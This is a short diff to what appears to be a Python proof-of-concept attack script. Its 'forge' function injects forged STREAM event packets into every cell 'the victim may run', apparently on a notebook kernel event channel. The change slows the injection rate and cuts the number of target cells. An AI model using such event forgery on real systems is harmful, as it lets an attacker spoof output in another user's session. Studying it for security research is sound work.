@@ -66,13 +66,13 @@ def drain(name, s):
 
 def forge(s):
     # Stream events (Event.STREAM = 1) into every cell the victim may run.
-    for _ in range(int(seconds * 5)):
+    for _ in range(int(seconds)):
         try:
-            for cell in range(0, 40):
+            for cell in range(0, 12):
                 s.sendall(struct.pack('>BqBi', 1, cell, 1, len(FORGED)) + FORGED)
         except OSError:
             return
-        time.sleep(0.2)
+        time.sleep(1)
 
 
 def attack_events(port, token):
